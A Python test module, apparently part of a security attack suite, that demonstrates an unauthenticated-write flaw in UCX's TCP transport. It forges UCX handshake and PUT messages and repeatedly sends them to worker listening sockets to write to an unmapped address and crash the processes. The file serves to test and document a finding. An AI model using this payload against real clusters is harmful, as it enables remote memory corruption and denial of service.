"""A host on the network writes into a worker's memory through UCX's sockets.

UCX's TCP transport does not authenticate its peers: after the magic number and a connection
request, a message names the address to which the bytes that follow it are written.
"""

import socket
import struct

from tests.attacks.target import AttackTarget, MemberAddress

FINDING = "1: UCX listens on TCP without authentication"

MAGIC = struct.pack("<Q", 0xCAFEBABE12345678)
CONNECTION_EVENT, PUT_REQUEST = 32, 33
"""UCX message types."""

NO_ADDRESS = 8
"""An unmapped address: a write to it crashes the process."""


async def attack(target: AttackTarget) -> None:
    """Try every listening socket that is neither gRPC nor a framed-connection port, repeatedly."""
    addresses = [
        address
        for member in target.of_role("prefill", "decode", "kvstore", "conductor")
        for address in unnamed(member)
    ]
    target.outcomes["listeners"] = len(addresses)
    while not target.is_over:
        for address in addresses:
            await target.send(hello() + put(NO_ADDRESS, b"\xff" * 64), address, 0.5)
        await target.sleep(1.0)


def unnamed(member: MemberAddress) -> list[str]:
    """Return the addresses on which the member listens, except for those of gRPC and of framed
    connections."""
    named = {member.grpc, member.framed_address}
    return [address for address in member.listening if address not in named]


def hello() -> bytes:
    """Return UCX's magic number and a connection request."""
    address = struct.pack("<HH4s8x", socket.AF_INET, 0, socket.inet_aton("127.0.0.1"))
    return MAGIC + _message(CONNECTION_EVENT, struct.pack("<BQ", 1, 1) + address)


def put(address: int, data: bytes) -> bytes:
    """Return the message that writes ``data`` at ``address`` of the process."""
    return _message(PUT_REQUEST, struct.pack("<QQI", address, len(data), 0)) + data


def _message(kind: int, payload: bytes) -> bytes:
    return struct.pack("<BI", kind, len(payload)) + payload
